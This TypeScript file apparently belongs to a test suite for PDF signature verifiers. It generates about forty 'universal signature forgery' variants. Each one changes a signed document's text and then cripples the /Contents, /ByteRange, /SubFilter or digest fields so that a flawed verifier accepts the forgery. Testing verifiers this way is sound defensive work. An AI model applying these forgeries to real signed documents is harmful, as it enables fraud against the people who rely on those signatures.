import { bytes, patch, placeOf, text } from './bytes.ts';
import { attacks } from './case.ts';
import { forgedText, trueText, type Victim } from './victim.ts';

/**
 * Universal signature forgery ("1 Trillion Dollar Refund", 2019): the page is changed in place, and the signature's dictionary
 * crippled so that a verifier skips the check or takes its failure for success.
 */
function forged(victim: Victim): Buffer {
  return patch(victim.signed, trueText, forgedText);
}

const contents = (value: string) => (victim: Victim) => {
  const file = forged(victim);
  return patch(file, placeOf(file).contents, value);
};
const range = (make: (values: readonly number[]) => string) => (victim: Victim) => {
  const file = forged(victim);
  const { range, values } = placeOf(file);
  return patch(file, range, make(values));
};

/** The message with some of its octets exchanged, the same in length. */
const message = (from: RegExp, to: string) => (victim: Victim) => {
  const file = forged(victim);
  const place = placeOf(file);
  const changed = place.contents.replace(from, to);
  if (changed === place.contents || changed.length !== place.contents.length)
    throw new Error('no such octets');
  return bytes(text(file).replace(place.contents, changed));
};

export const universalForgery = attacks({
  'no /Contents': (victim) => {
    const file = forged(victim);
    return patch(file, `/Contents ${placeOf(file).contents}`, '');
  },
  '/Contents without a value': contents(''),
  '/Contents null': contents('null'),
  '/Contents empty': contents('<>'),
  '/Contents of one zero': contents('<00>'),
  '/Contents 0x00': contents('0x00'),
  '/Contents all zeros': (victim) =>
    contents(`<${'0'.repeat(placeOf(victim.signed).contents.length - 2)}>`)(victim),
  '/Contents as a literal string': contents('(0)'),
  '/Contents as a reference': contents('5 0 R'),
  'no /ByteRange': (victim) => {
    const file = forged(victim);
    return patch(file, `/ByteRange ${placeOf(file).range}`, '');
  },
  '/ByteRange without a value': range(() => ''),
  '/ByteRange null': range(() => 'null'),
  '/ByteRange empty': range(() => '[]'),
  '/ByteRange of nulls': range(() => '[null null null null]'),
  '/ByteRange all zero': range(() => '[0 0 0 0]'),
  '/ByteRange of two numbers': range(([, before]) => `[0 ${before}]`),
  '/ByteRange of three numbers': range(([, a, b]) => `[0 ${a} ${b}]`),
  '/ByteRange of six numbers': range(([, a, b]) => `[0 ${a} ${b} 5 ${(b ?? 0) + 9} 5]`),
  '/ByteRange starting behind the header': range(([, a, b, c]) => `[9 ${(a ?? 0) - 9} ${b} ${c}]`),
  '/ByteRange negative': range(([, a, b, c]) => `[0 ${a} -${b} ${c}]`),
  '/ByteRange with a negative length': range(([, a, b]) => `[0 ${a} ${b} -1]`),
  '/ByteRange beyond the file': range(([, a, b, c]) => `[0 ${a} ${b} ${(c ?? 0) + 9999}]`),
  '/ByteRange beyond 32 bits': range(([, a, b, c]) => `[0 ${a} ${b} ${2 ** 32 + (c ?? 0)}]`),
  '/ByteRange beyond 64 bits': range(() => '[0 18446744073709551617 0 9]'),
  '/ByteRange overlapping itself': range(([, a, b, c]) => `[0 ${b} ${a} ${c}]`),
  '/ByteRange of fractions': range(([, a, b, c]) => `[0 ${a}.5 ${b} ${c}]`),
  '/ByteRange as a reference': range(() => '5 0 R'),
  '/ByteRange of references': range(() => '[5 0 R 5 0 R 5 0 R 5 0 R]'),
  '/ByteRange leaving the page out': range(([, a, b, c]) => `[0 9 ${b} ${c}]`.padEnd(9 + (a ?? 0) * 0)),
  '/SubFilter unknown': (victim) => patch(forged(victim), '/ETSI.CAdES.detached', '/ETSI.CAdES.detachee'),
  'no /SubFilter': (victim) => patch(forged(victim), '/SubFilter /ETSI.CAdES.detached', ''),
  '/SubFilter of a time stamp': (victim) => patch(forged(victim), '/ETSI.CAdES.detached', '/ETSI.RFC3161'),
  '/SubFilter of a bare SHA-1': (victim) =>
    patch(forged(victim), '/ETSI.CAdES.detached', '/adbe.x509.rsa_sha1'),
  'no /Type, no /Filter': (victim) =>
    patch(patch(forged(victim), '/Type /Sig /Filter', ''), '/Adobe.PPKLite', ''),
  'a signature dictionary that is empty': (victim) => {
    const file = forged(victim);
    const dictionary = /<< \/Type \/Sig [\s\S]*?>\s*>>/.exec(text(file))?.[0] ?? '';
    return patch(file, dictionary, '<< >>');
  },
  'a digest attribute of another type': message(/06092a864886f70d010904/, '06092a864886f70d010905'),
  'content type of something else': message(/06092a864886f70d010702/, '06092a864886f70d010701'),
  'a digest algorithm that nobody knows': message(/0609608648016503040201/, '06096086480165030402ff'),
});
